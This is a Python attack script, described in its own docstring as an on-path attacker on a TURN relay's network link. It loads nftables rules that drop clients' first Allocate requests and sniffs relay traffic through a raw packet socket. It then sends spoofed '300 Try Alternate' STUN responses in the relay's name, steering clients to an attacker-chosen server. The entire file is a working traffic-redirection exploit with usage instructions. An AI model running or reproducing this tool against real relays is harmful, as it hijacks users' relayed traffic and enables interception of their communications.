"""An attacker on a relay's wire: answers every Allocate and Refresh with "300 Try Alternate", in the
relay's name. Of the first Allocate of each client the relay never learns, so that the attacker's is
the only answer. usage: redirect.py RELAY ALTERNATE; runs until it is killed."""

import socket
import struct
import subprocess
import sys

COOKIE = 0x2112A442
TURN = 3478
ALLOCATE, REFRESH = 0x003, 0x004
ERROR_CODE, ALTERNATE_SERVER = 0x0009, 0x8023
RULES = """table ip attack {
  set heard { type ipv4_addr . inet_service; }
  chain in {
    type filter hook input priority 0;
    udp dport 3478 @th,64,16 0x0003 ip saddr . udp sport != @heard drop
  }
}
"""


def attribute(kind, value):
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def redirection(request, alternate):
    body = attribute(ERROR_CODE, struct.pack("!HBB", 0, 3, 0) + b"Try Alternate")
    body += attribute(ALTERNATE_SERVER, struct.pack("!BBH", 0, 1, TURN) + socket.inet_aton(alternate))
    kind = struct.unpack_from("!H", request)[0] | 0x0110
    return struct.pack("!HHI", kind, len(body), COOKIE) + request[8:20] + body


def datagram(source, target, port, payload):
    length = 28 + len(payload)
    header = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0, 64, 17, 0)
    header += socket.inet_aton(source) + socket.inet_aton(target)
    return header + struct.pack("!HHHH", TURN, port, length - 20, 0) + payload


def main():
    relay, alternate = sys.argv[1:]
    subprocess.run(["nft", "-f", "-"], input=RULES.encode(), check=True)
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.ntohs(0x0800))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print('{"event":"ready"}', flush=True)
    heard = set()
    while True:
        packet, address = tap.recvfrom(65536)
        start = (packet[0] & 15) * 4
        if packet[9] != 17 or packet[16:20] != socket.inet_aton(relay):
            continue
        port, to = struct.unpack_from("!HH", packet, start)
        request = packet[start + 8 :]
        if to != TURN or len(request) < 20:
            continue
        if struct.unpack_from("!H", request)[0] in (ALLOCATE, REFRESH):
            client = socket.inet_ntoa(packet[12:16])
            answer = datagram(relay, client, port, redirection(request, alternate))
            out.sendto(answer, (client, 0))
            if (client, port) not in heard:
                heard.add((client, port))
                known = "add element ip attack heard { %s . %d }" % (client, port)
                subprocess.run(["nft", known], check=True)


main()
